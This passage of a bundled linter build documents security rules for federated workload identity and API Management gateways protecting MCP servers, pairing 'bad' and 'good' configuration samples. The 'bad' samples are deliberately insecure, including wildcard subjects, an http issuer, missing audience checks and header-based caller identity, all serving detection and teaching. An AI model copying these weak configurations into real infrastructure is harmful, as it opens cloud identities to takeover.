  // CONCATENATED MODULE: ./build/shared/lint/rules/entra/about.js
  const entra_about_abouts = {
   "broad-graph-permission": broad_graph_permission_about_about,
   "client-secret-created": client_secret_created_about_about,
   "conditional-access-not-enforced": conditional_access_not_enforced_about_about,
   "long-lived-app-credential": long_lived_app_credential_about_about,
   "one-scope-for-all": one_scope_for_all_about_about,
   "secrets-for-people": secrets_for_people_about_about,
   "token-version-unset": token_version_unset_about_about,
   "user-consent-scope": user_consent_scope_about_about
  };
  var entra = __webpack_require__(50719);
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/broad-subject.about.js
  const broad_subject_about_about = {
   summary: "Federated subject takes in more branches or tags than it needs",
   why: "A subject that names the beginning of a branch or tag lets in every branch or tag that somebody gives such a name, and a tag can be moved to any commit. What runs there has not passed the review that an environment with reviewers demands.",
   fix: "Name one environment with reviewers: `repo:acme/app:environment:production`. Where a branch or tag is what you need, name it in full, and protect it with a rule set.",
   securitySeverity: 6,
   references: [ "https://docs.github.com/actions/how-tos/deploy/configure-and-manage-deployments/manage-environments", "https://learn.microsoft.com/entra/workload-id/workload-identities-flexible-federated-identity-credentials" ],
   bad: {
    file: "federate.sh",
    text: 'az ad app federated-credential create --id "$APP_ID" --parameters @- <<\'EOF\'\n{\n  "name": "ci",\n  "issuer": "https://token.actions.githubusercontent.com",\n  "audiences": ["api://AzureADTokenExchange"],\n  "claimsMatchingExpression": {\n    "value": "claims[\'sub\'] matches \'repo:acme@1234/app@56789:ref:refs/heads/release/*\'",\n    "languageVersion": 1\n  }\n}\nEOF\n'
   },
   good: {
    file: "federate.sh",
    text: 'az ad app federated-credential create --id "$APP_ID" --parameters @- <<\'EOF\'\n{\n  "name": "ci",\n  "issuer": "https://token.actions.githubusercontent.com",\n  "audiences": ["api://AzureADTokenExchange"],\n  "claimsMatchingExpression": {\n    "value": "claims[\'sub\'] eq \'repo:acme@1234/app@56789:environment:production\'",\n    "languageVersion": 1\n  }\n}\nEOF\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/ineffective-wildcard.about.js
  const ineffective_wildcard_about_about = {
   summary: "Wildcard in a federated subject that is compared exactly and never matches",
   why: "The `subject` of an Entra federated credential, values of AWS `StringEquals` and `==` in Google Cloud compare exactly. A star is a star: creation succeeds, and no token ever matches. It shows what somebody wanted, and when it does not work, people widen something else until it does: the role, the audience, or the expression.",
   fix: "Delete the credential, or put the one subject into it that the job has: `repo:acme/app:environment:production`. The step `mcp-gatehouse token` with `explain` prints the subject of a job.",
   securitySeverity: 4,
   references: [ "https://learn.microsoft.com/entra/workload-id/workload-identity-federation-considerations", "https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_condition_operators.html" ],
   bad: {
    file: "federate.sh",
    text: 'az identity federated-credential create --identity-name ci --resource-group rg --name any-branch \\\n  --issuer https://token.actions.githubusercontent.com \\\n  --subject "repo:acme/app:ref:refs/heads/*" --audiences api://AzureADTokenExchange\n'
   },
   good: {
    file: "federate.sh",
    text: 'az identity federated-credential create --identity-name ci --resource-group rg --name production \\\n  --issuer https://token.actions.githubusercontent.com \\\n  --subject "repo:acme@1234/app@56789:environment:production" --audiences api://AzureADTokenExchange\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/legacy-subject.about.js
  const legacy_subject_about_about = {
   summary: "Federated subject is written in a form that the issuer is giving up",
   why: "Repositories that were created, renamed or transferred on GitHub since 15 July 2026 put the numbers of owner and repository into the subject: `repo:acme@123/app@456:…`. A subject with names alone no longer matches there, and elsewhere it matches anyone who takes the name once it is free. Subjects of Azure DevOps that begin with `sc://` end with their issuer on 1 July 2027.",
   fix: "Where the repository has the new form, add a credential with it (`gh api repos/OWNER/REPO/actions/oidc/customization/sub` shows the prefix) and delete the old one. For Azure DevOps convert the service connection to the issuer of Entra.",
   securitySeverity: 2,
   references: [ "https://docs.github.com/actions/reference/security/oidc", "https://learn.microsoft.com/entra/workload-id/workload-identities-github-immutable-subjects" ],
   bad: {
    file: "main.tf",
    text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme/app:environment:production"\n}\n'
   },
   good: {
    file: "main.tf",
    text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme@1234/app@56789:environment:production"\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/loose-issuer.about.js
  const loose_issuer_about_about = {
   summary: "Federated identity trusts an issuer that others can speak for",
   why: "The keys that sign tokens are fetched from the address of the issuer. Over `http` anyone on the way can put in keys of their own; a host that only looks like that of GitHub belongs to somebody else; the `common` endpoint of Entra signs for every tenant there is.",
   fix: "Use the exact `https` address of the one issuer: `https://token.actions.githubusercontent.com` for GitHub, with the name of the enterprise behind it where that is enabled; of Entra the address with the id of the tenant.",
   securitySeverity: 7,
   references: [ "https://openid.net/specs/openid-connect-discovery-1_0.html", "https://docs.github.com/actions/reference/security/oidc" ],
   bad: {
    file: "main.bicep",
    text: "resource fic 'Microsoft.ManagedIdentity/userAssignedIdentities/federatedIdentityCredentials@2023-01-31' = {\n  name: 'ci/github'\n  properties: {\n    issuer: 'http://token.actions.githubusercontent.com'\n    subject: 'repo:acme@1/app@2:environment:production'\n    audiences: ['api://AzureADTokenExchange']\n  }\n}\n"
   },
   good: {
    file: "main.bicep",
    text: "resource fic 'Microsoft.ManagedIdentity/userAssignedIdentities/federatedIdentityCredentials@2023-01-31' = {\n  name: 'ci/github'\n  properties: {\n    issuer: 'https://token.actions.githubusercontent.com'\n    subject: 'repo:acme@1/app@2:environment:production'\n    audiences: ['api://AzureADTokenExchange']\n  }\n}\n"
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/missing-audience.about.js
  const missing_audience_about_about = {
   summary: "Federated identity takes tokens that were made for somebody else",
   why: "The audience of a token says for whom it was made. A job that sends its token to another service gives that service whatever the token opens: without a test of `aud`, or with one that also holds when the claim is missing (`ForAllValues:`, `…IfExists`), that is this identity too.",
   fix: "Test the audience with a plain `StringEquals` on the `:aud` key of the provider, such as `sts.amazonaws.com`. In Google Cloud leave `allowed_audiences` empty: the default is the name of the provider itself. In Entra use `api://AzureADTokenExchange` and request the token for it alone.",
   securitySeverity: 6.8,
   references: [ "https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_condition-single-vs-multi-valued-context-keys.html", "https://cloud.google.com/iam/docs/workload-identity-federation-with-deployment-pipelines" ],
   bad: {
    file: "main.tf",
    text: 'data "aws_iam_policy_document" "ci" {\n  statement {\n    actions = ["sts:AssumeRoleWithWebIdentity"]\n    principals {\n      type        = "Federated"\n      identifiers = ["arn:aws:iam::111122223333:oidc-provider/token.actions.githubusercontent.com"]\n    }\n    condition {\n      test     = "StringEquals"\n      variable = "token.actions.githubusercontent.com:sub"\n      values   = ["repo:acme/app:environment:production"]\n    }\n  }\n}\n'
   },
   good: {
    file: "main.tf",
    text: 'data "aws_iam_policy_document" "ci" {\n  statement {\n    actions = ["sts:AssumeRoleWithWebIdentity"]\n    principals {\n      type        = "Federated"\n      identifiers = ["arn:aws:iam::111122223333:oidc-provider/token.actions.githubusercontent.com"]\n    }\n    condition {\n      test     = "StringEquals"\n      variable = "token.actions.githubusercontent.com:aud"\n      values   = ["sts.amazonaws.com"]\n    }\n    condition {\n      test     = "StringEquals"\n      variable = "token.actions.githubusercontent.com:sub"\n      values   = ["repo:acme@1234/app@56789:environment:production"]\n    }\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/mixed-trust-levels.about.js
  const mixed_trust_levels_about_about = {
   summary: "One federated identity trusts subjects of different strength",
   why: "An identity is as strong as the weakest of its credentials. Reviewers of the production environment protect nothing when a branch, a pull request or the development environment gets a token of the same identity.",
   fix: "Use one identity for each level of trust: production behind an environment with reviewers, and everything else with another identity and fewer rights.",
   securitySeverity: 6,
   references: [ "https://docs.github.com/actions/how-tos/deploy/configure-and-manage-deployments/manage-environments", "https://learn.microsoft.com/entra/workload-id/workload-identity-federation-considerations" ],
   bad: {
    file: "main.tf",
    text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme@1234/app@56789:environment:production"\n}\n\nresource "azurerm_federated_identity_credential" "main" {\n  name                      = "main"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme@1234/app@56789:ref:refs/heads/main"\n}\n'
   },
   good: {
    file: "main.tf",
    text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme@1234/app@56789:environment:production"\n}\n\nresource "azurerm_federated_identity_credential" "main" {\n  name                      = "main"\n  user_assigned_identity_id = azurerm_user_assigned_identity.build.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme@1234/app@56789:ref:refs/heads/main"\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/mutable-google-subject.about.js
  const mutable_google_subject_about_about = {
   summary: "Google Cloud trusts a name that can be given up and taken by others",
   why: "A GitHub account or repository that is renamed or deleted leaves its name free. The next owner of the name then fits the condition and gets a token. The number of an owner or repository is never given twice.",
   fix: "Compare `repository_owner_id` or `repository_id` as well as, or instead of, the name. `gh api repos/OWNER/REPO --jq '.id, .owner.id'` prints both numbers.",
   securitySeverity: 3,
   references: [ "https://cloud.google.com/iam/docs/best-practices-for-using-workload-identity-federation", "https://cloud.google.com/iam/docs/workload-identity-federation-with-deployment-pipelines" ],
   bad: {
    file: "federate.sh",
    text: 'gcloud iam workload-identity-pools providers create-oidc github --location=global \\\n  --workload-identity-pool=ci --issuer-uri="https://token.actions.githubusercontent.com" \\\n  --attribute-mapping="google.subject=assertion.sub" \\\n  --attribute-condition="assertion.repository == \'acme/app\' && assertion.ref == \'refs/heads/main\'"\n'
   },
   good: {
    file: "federate.sh",
    text: 'gcloud iam workload-identity-pools providers create-oidc github --location=global \\\n  --workload-identity-pool=ci --issuer-uri="https://token.actions.githubusercontent.com" \\\n  --attribute-mapping="google.subject=assertion.sub" \\\n  --attribute-condition="assertion.repository_id == \'56789\' && assertion.ref == \'refs/heads/main\'"\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/needless-match.about.js
  const needless_match_about_about = {
   summary: "Flexible expression matches a text that has no wildcard",
   why: "In a flexible expression of Entra, `matches` reads `*` and `?` as wildcards and `eq` does not. With `matches`, the next person who edits the text opens the trust with one character and without noticing.",
   fix: "Use `eq`. `mcp-gatehouse lint --fix` does it.",
   securitySeverity: 2,
   references: [ "https://learn.microsoft.com/entra/workload-id/workload-identities-flexible-federated-identity-credentials" ],
   bad: {
    file: "federate.sh",
    text: 'az ad app federated-credential create --id "$APP_ID" --parameters @- <<\'EOF\'\n{\n  "name": "ci",\n  "issuer": "https://token.actions.githubusercontent.com",\n  "audiences": ["api://AzureADTokenExchange"],\n  "claimsMatchingExpression": {\n    "value": "claims[\'sub\'] matches \'repo:acme@1234/app@56789:environment:production\'",\n    "languageVersion": 1\n  }\n}\nEOF\n'
   },
   good: {
    file: "federate.sh",
    text: 'az ad app federated-credential create --id "$APP_ID" --parameters @- <<\'EOF\'\n{\n  "name": "ci",\n  "issuer": "https://token.actions.githubusercontent.com",\n  "audiences": ["api://AzureADTokenExchange"],\n  "claimsMatchingExpression": {\n    "value": "claims[\'sub\'] eq \'repo:acme@1234/app@56789:environment:production\'",\n    "languageVersion": 1\n  }\n}\nEOF\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/pull-request-subject.about.js
  const pull_request_subject_about_about = {
   summary: "Federated identity trusts workflows of pull requests",
   why: "A workflow that a pull request starts runs the code of the pull request, before anybody has reviewed it: build scripts, tests, the workflow file itself. With this subject all of that gets a token. Anyone who can push a branch to the repository, or take over one account that can, becomes the identity. It is an error where a workflow of this repository does log in so.",
   fix: "Give pull requests an identity of their own that can read at most what a plan needs, or none. Everything that writes belongs behind an environment with reviewers: `repo:acme/app:environment:production`.",
   securitySeverity: 7.5,
   references: [ "https://docs.github.com/actions/reference/security/oidc", "https://learn.microsoft.com/entra/workload-id/workload-identity-federation-create-trust" ],
   bad: {
    file: "main.tf",
    text: 'resource "azurerm_federated_identity_credential" "plan" {\n  name                      = "plan"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme/app:pull_request"\n}\n'
   },
   good: {
    file: "main.tf",
    text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme@1234/app@56789:environment:production"\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/unmatchable-subject.about.js
  const unmatchable_subject_about_about = {
   summary: "Federated subject or issuer is written so that no token ever matches",
   why: "Subjects and issuers are compared exactly, and a wrong one is created without any error. The job then fails with AADSTS700213, and what people do next is the danger: they add a wider credential, or go back to a client secret.",
   fix: "Put in the subject that the job really has: `mcp-gatehouse token` with `explain` prints it. Forms of GitHub: `repo:OWNER/REPO:environment:NAME`, `…:ref:refs/heads/BRANCH`, `…:ref:refs/tags/TAG`, `…:pull_request`.",
   securitySeverity: 3,
   references: [ "https://docs.github.com/actions/reference/security/oidc", "https://learn.microsoft.com/entra/workload-id/workload-identity-federation-considerations" ],
   bad: {
    file: "main.tf",
    text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme/app:refs/heads/main"\n}\n'
   },
   good: {
    file: "main.tf",
    text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme@1/app@2:ref:refs/heads/main"\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/unreviewed-branch-subject.about.js
  const unreviewed_branch_subject_about_about = {
   summary: "Federated identity trusts a branch that is pushed before any review",
   why: "A bot writes its branches with code that nobody has read yet, and a feature branch holds what its author pushed a minute ago. A workflow on such a branch runs that code, and with this subject it gets a token.",
   fix: "Trust a protected branch, or better an environment with reviewers: `repo:acme/app:environment:production`. Give a bot that needs access an identity of its own that can only read.",
   securitySeverity: 6,
   references: [ "https://docs.github.com/actions/how-tos/deploy/configure-and-manage-deployments/manage-environments", "https://docs.github.com/actions/reference/security/oidc" ],
   bad: {
    file: "main.tf",
    text: 'resource "azurerm_federated_identity_credential" "bot" {\n  name                      = "bot"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme/app:ref:refs/heads/renovate/all"\n}\n'
   },
   good: {
    file: "main.tf",
    text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme@1234/app@56789:environment:production"\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/wildcard-subject.about.js
  const wildcard_subject_about_about = {
   summary: "Federated identity trusts more workflows than one branch or environment",
   why: "A federated identity has no secret: the subject of the token is all that decides who becomes it. With a wildcard in a flexible expression of Entra, in `StringLike` of AWS, or in a condition of Google Cloud, or without any condition on the subject, a workflow that nobody has reviewed gets a token: on a branch that was pushed a minute ago, in a new repository, or in a repository of somebody else.",
   fix: "Name the one repository and the one environment (better) or branch: `repo:acme/app:environment:production`, compared with `eq` in Entra, with `StringEquals` in AWS, with `==` in Google Cloud. Give the environment reviewers and a rule on branches. For many repositories, make the condition on `job_workflow_ref` of one reviewed workflow, with its ref, together with the owner. One identity for each purpose is cheaper than one wide identity.",
   securitySeverity: 9,
   references: [ "https://learn.microsoft.com/entra/workload-id/workload-identities-flexible-federated-identity-credentials", "https://docs.github.com/actions/reference/security/oidc", "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_roles_create_for-idp_oidc.html", "https://cloud.google.com/iam/docs/workload-identity-federation-with-deployment-pipelines" ],
   bad: {
    file: "federate.sh",
    text: [ "az ad app federated-credential create --id \"$APP_ID\" --parameters @- <<'EOF'", "{", '  "name": "ci",', '  "issuer": "https://token.actions.githubusercontent.com",', '  "audiences": ["api://AzureADTokenExchange"],', '  "claimsMatchingExpression": {', "    \"value\": \"claims['sub'] matches 'repo:acme/*'\",", '    "languageVersion": 1', "  }", "}", "EOF", "" ].join("\n")
   },
   good: {
    file: "federate.sh",
    text: [ "az ad app federated-credential create --id \"$APP_ID\" --parameters @- <<'EOF'", "{", '  "name": "ci",', '  "issuer": "https://token.actions.githubusercontent.com",', '  "audiences": ["api://AzureADTokenExchange"],', '  "subject": "repo:acme@1234/app@56789:environment:production"', "}", "EOF", "" ].join("\n")
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/about.js
  const federation_about_abouts = {
   "broad-subject": broad_subject_about_about,
   "ineffective-wildcard": ineffective_wildcard_about_about,
   "legacy-subject": legacy_subject_about_about,
   "loose-issuer": loose_issuer_about_about,
   "missing-audience": missing_audience_about_about,
   "mixed-trust-levels": mixed_trust_levels_about_about,
   "mutable-google-subject": mutable_google_subject_about_about,
   "needless-match": needless_match_about_about,
   "pull-request-subject": pull_request_subject_about_about,
   "unmatchable-subject": unmatchable_subject_about_about,
   "unreviewed-branch-subject": unreviewed_branch_subject_about_about,
   "wildcard-subject": wildcard_subject_about_about
  };
  var federation = __webpack_require__(10126);
  // CONCATENATED MODULE: ./build/shared/lint/rules/gateway/examples/policies.js
  const file = "policies/mcp-files.policy.xml";
  function policyWith(inbound, outbound = "") {
   const out = outbound === "" ? "" : `    ${outbound}\n`;
   return {
    file,
    text: `<policies>\n  <inbound>\n    <base />\n    ${inbound}\n  </inbound>\n  <backend>\n    <base />\n  </backend>\n  <outbound>\n    <base />\n${out}  </outbound>\n  <on-error>\n    <base />\n  </on-error>\n</policies>\n`
   };
  }
  const goodPolicy = {
   file,
   text: `<policies>\n  <inbound>\n    <base />\n    <validate-jwt header-name="Authorization" require-scheme="Bearer" output-token-variable-name="jwt">\n      <openid-config url="https://login.microsoftonline.com/{{tenant-id}}/v2.0/.well-known/openid-configuration" />\n      <audiences>\n        <audience>{{mcp-gateway-app-id}}</audience>\n      </audiences>\n      <issuers>\n        <issuer>https://login.microsoftonline.com/{{tenant-id}}/v2.0</issuer>\n      </issuers>\n    </validate-jwt>\n    <set-variable name="caller" value="@(((Jwt)context.Variables["jwt"]).Claims.GetValueOrDefault("oid", ""))" />\n    <set-variable name="grants" value="@{\n      var claims = ((Jwt)context.Variables["jwt"]).Claims;\n      return claims.ContainsKey("scp")\n        ? string.Join(" ", claims["scp"])\n        : claims.ContainsKey("roles") ? string.Join(" ", claims["roles"]) : "";\n    }" />\n    \x3c!-- The class of the tool, from a table such as read_file=read;write_file=write. --\x3e\n    <set-variable name="needed" value="@{\n      var message = context.Request.Body.As<JObject>(preserveContent: true);\n      if ((string)message["method"] != "tools/call") { return "read"; }\n      var tool = (string)message["params"]?["name"];\n      var entry = "{{mcp-tools-files}}".Split(';').FirstOrDefault(e => e.StartsWith(tool + "="));\n      return entry == null ? "none" : entry.Substring(entry.IndexOf('=') + 1);\n    }" />\n    <choose>\n      <when condition="@(!((string)context.Variables["grants"]).Split(' ').Contains("mcp.tools." + (string)context.Variables["needed"]))">\n        <include-fragment fragment-id="mcp-audit" />\n        <return-response>\n          <set-status code="403" reason="Forbidden" />\n        </return-response>\n      </when>\n    </choose>\n    <rate-limit-by-key calls="50" renewal-period="60" counter-key="@((string)context.Variables["caller"])" />\n    <set-header name="Authorization" exists-action="delete" />\n    <set-backend-service backend-id="mcp-files" />\n  </inbound>\n  <backend>\n    <forward-request buffer-response="false" />\n  </backend>\n  <outbound>\n    <base />\n    <include-fragment fragment-id="mcp-audit" />\n  </outbound>\n  <on-error>\n    <base />\n    <include-fragment fragment-id="mcp-audit" />\n  </on-error>\n</policies>\n`
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/gateway/forgeable-caller.about.js
  const forgeable_caller_about_about = {
   summary: "Caller is identified by a request header",
   why: "API Management does not set `X-MS-CLIENT-PRINCIPAL-ID` or any other header that names the caller: a policy reads there what the caller sent. A decision based on such a header can be bypassed, and an audit record based on it can be forged. The same holds for claims that are read from the `Authorization` header before a policy has validated the token. A header that the policy itself sets first is not reported.",
   fix: 'Set `output-token-variable-name="jwt"` on the token check, and read `oid` from that variable.',
   securitySeverity: 8.1,
   references: [ "https://learn.microsoft.com/azure/api-management/validate-jwt-policy", "https://cwe.mitre.org/data/definitions/290.html" ],
   bad: policyWith(`<choose>\n      <when condition="@(context.Request.Headers.GetValueOrDefault("X-User-Role", "") != "admin")">\n        <return-response>\n          <set-status code="403" />\n        </return-response>\n      </when>\n    </choose>`),
   good: goodPolicy
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/gateway/gateway-any-tenant.about.js
  const gateway_any_tenant_about_about = {
   summary: "Gateway accepts tokens of every tenant",
   why: "The metadata of `common`, `organizations` and `consumers` holds the keys that sign tokens for all tenants of Microsoft Entra ID. With these keys alone, a token of any tenant passes, and anyone can create a tenant. A policy that also checks the issuer or the tenant of the token is not reported.",
   fix: "Put the id of your own tenant into the address of `<openid-config>` or into `tenant-id`, or add `<issuers>` with the issuers that you trust.",
   securitySeverity: 8.8,
   references: [ "https://learn.microsoft.com/azure/api-management/validate-jwt-policy", "https://learn.microsoft.com/entra/identity-platform/access-tokens#validate-the-issuer" ],
   bad: policyWith(`<validate-jwt header-name="Authorization">\n      <openid-config url="https://login.microsoftonline.com/common/v2.0/.well-known/openid-configuration" />\n      <audiences>\n        <audience>{{mcp-gateway-app-id}}</audience>\n      </audiences>\n    </validate-jwt>`),
   good: goodPolicy
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/gateway/gateway-audience.about.js
  const gateway_audience_about_about = {
   summary: "Gateway accepts tokens that were issued for other services",
   why: "The audience says which service a token is for. Without `<audiences>` the gateway accepts any token that the tenant has issued, and a service that receives a user's token can replay it at the gateway. Tokens for Azure Resource Manager and Microsoft Graph are the worst choice, because nearly every pipeline and application can get one. An audience that is checked as a required claim counts.",
   fix: "Add `<audiences>` with the application ID of the gateway to `<validate-jwt>` or `<validate-azure-ad-token>`. `<client-application-ids>` says who asked for the token, not which service it is for.",
   securitySeverity: 7.5,
   references: [ "https://learn.microsoft.com/azure/api-management/validate-jwt-policy", "https://learn.microsoft.com/azure/api-management/validate-azure-ad-token-policy", "https://modelcontextprotocol.io/specification/2025-11-25/basic/security_best_practices" ],
   bad: policyWith(`<validate-azure-ad-token tenant-id="{{tenant-id}}">\n      <client-application-ids>\n        <application-id>{{mcp-client-app-id}}</application-id>\n      </client-application-ids>\n    </validate-azure-ad-token>`),
   good: goodPolicy
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/gateway/gateway-buffers-stream.about.js
  const gateway_buffers_stream_about_about = {
   summary: "Policy buffers the stream of an MCP server",
   why: "MCP over HTTP can answer with a stream of events. A policy that reads `context.Response.Body`, changes the body or buffers the response makes the gateway wait for the end of the stream. Progress messages arrive late, and clients time out.",
   fix: 'Forward with `buffer-response="false"`, and leave the body of the answer alone in every section.',
   securitySeverity: 2.1,
   references: [ "https://learn.microsoft.com/azure/api-management/forward-request-policy", "https://learn.microsoft.com/azure/api-management/how-to-server-sent-events", "https://learn.microsoft.com/azure/api-management/export-rest-mcp-server" ],
   bad: policyWith('<set-backend-service backend-id="mcp-files" />', '<set-variable name="size" value="@(context.Response.Body.As<string>(preserveContent: true).Length)" />'),
   good: goodPolicy
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/gateway/gateway-forwards-token.about.js
  const gateway_forwards_token_about_about = {
   summary: "Token of the caller is forwarded to the server",
   why: "The token was issued for the gateway. A server that receives it can call the gateway on behalf of the caller. The MCP specification forbids this token passthrough. API Management forwards the `Authorization` header unless the policy removes it. A policy that exchanges the token (on-behalf-of), authenticates as the gateway, or uses a backend with credentials of its own is not reported.",
   fix: "Delete the header, authenticate to the server with the managed identity of the gateway, and pass the caller in a header that only the gateway sets.",
   securitySeverity: 5.9,
   references: [ "https://modelcontextprotocol.io/specification/2025-11-25/basic/security_best_practices", "https://learn.microsoft.com/azure/api-management/authentication-managed-identity-policy" ],
   bad: policyWith(`<validate-azure-ad-token tenant-id="{{tenant-id}}">\n      <audiences>\n        <audience>{{mcp-gateway-app-id}}</audience>\n      </audiences>\n    </validate-azure-ad-token>\n    <set-backend-service base-url="https://files.mcp.internal" />`),
   good: goodPolicy
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/gateway/gateway-log.about.js
  const gateway_log_about_about = {
   summary: "Calls leave no record, or only some of them",
   why: "Refused calls are the first sign of an attack. A policy that logs in `<inbound>`, after the token check, never records a call that the check refuses, because processing jumps to `<on-error>`; nor can it record the status and the latency. `<return-response>` ends processing, so a refusal has to be logged before it. Fragments, policies at wider scopes and diagnostic settings in the repository are taken into account.",
   fix: "Create a fragment that logs one record for each call, and include it in `<outbound>`, in `<on-error>` and before each `<return-response>` that refuses a call.",
   securitySeverity: 5.3,
   references: [ "https://learn.microsoft.com/azure/api-management/log-to-eventhub-policy", "https://learn.microsoft.com/azure/api-management/api-management-error-handling-policies" ],
   bad: policyWith(`<validate-azure-ad-token tenant-id="{{tenant-id}}">\n      <audiences>\n        <audience>{{mcp-gateway-app-id}}</audience>\n      </audiences>\n    </validate-azure-ad-token>\n    <trace source="mcp" severity="information">\n      <message>@(context.Request.Method)</message>\n    </trace>`),
   good: goodPolicy
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/gateway/gateway-logger-missing.about.js
  const fragment = logger => ({
   file: "gateway.tf",
   text: `resource "azurerm_api_management" "mcp" {\n  name                = "apim-mcp"\n  location            = "westeurope"\n  resource_group_name = "rg-mcp"\n  publisher_name      = "Contoso"\n  publisher_email     = "mcp@contoso.com"\n  sku_name            = "Premium_1"\n}\n${logger === void 0 ? "" : `\nresource "azurerm_api_management_logger" "audit" {\n  name                = "${logger}"\n  resource_group_name = "rg-mcp"\n  api_management_name = azurerm_api_management.mcp.name\n  resource_id         = var.event_hub_id\n}\n`}\nresource "azurerm_api_management_policy_fragment" "audit" {\n  api_management_id = azurerm_api_management.mcp.id\n  name              = "mcp-audit"\n  format            = "rawxml"\n  value             = <<-XML\n    <fragment>\n      <log-to-eventhub logger-id="mcp-audit-logger">@(context.RequestId.ToString())</log-to-eventhub>\n    </fragment>\n  XML\n}\n`
  });
  const gateway_logger_missing_about_about = {
   summary: "Policy logs to a logger that is not there",
   why: "API Management rejects a policy that names a logger which does not exist. The deployment then fails, or the previous policy stays in force. Where the repository declares no API Management service, the logger may be in another repository; the finding is then a note.",
   fix: "Declare the logger beside the policy, and let the policy depend on it.",
   securitySeverity: 3.1,
   references: [ "https://learn.microsoft.com/azure/api-management/log-to-eventhub-policy", "https://learn.microsoft.com/azure/api-management/api-management-howto-log-event-hubs" ],
   bad: fragment(),
   good: fragment("mcp-audit-logger")
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/gateway/gateway-logs-secrets.about.js
  const gateway_logs_secrets_about_about = {
   summary: "Log holds bodies, headers or credentials",
   why: "Tool arguments can hold passwords, personal data and whole files, and headers hold the token of the caller. Logs are kept for months and read by people who may not call the tool. A logged body is also truncated at 200 KB, so a padded call can hide its end. Sizes, hashes and single fields are not reported.",
   fix: "Log the method, the name of the tool, the caller's `oid`, the status and the time it took.",
   securitySeverity: 6.5,
   references: [ "https://learn.microsoft.com/azure/api-management/log-to-eventhub-policy", "https://cheatsheetseries.owasp.org/cheatsheets/Logging_Cheat_Sheet.html" ],
   bad: policyWith(`<validate-azure-ad-token tenant-id="{{tenant-id}}">\n      <audiences>\n        <audience>{{mcp-gateway-app-id}}</audience>\n      </audiences>\n    </validate-azure-ad-token>\n    <trace source="mcp" severity="information">\n      <message>@(context.Request.Body.As<string>(preserveContent: true))</message>\n    </trace>`),
   good: goodPolicy
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/gateway/gateway-rate-limit.about.js
  const gateway_rate_limit_about_about = {
   summary: "Calls are not limited by caller",
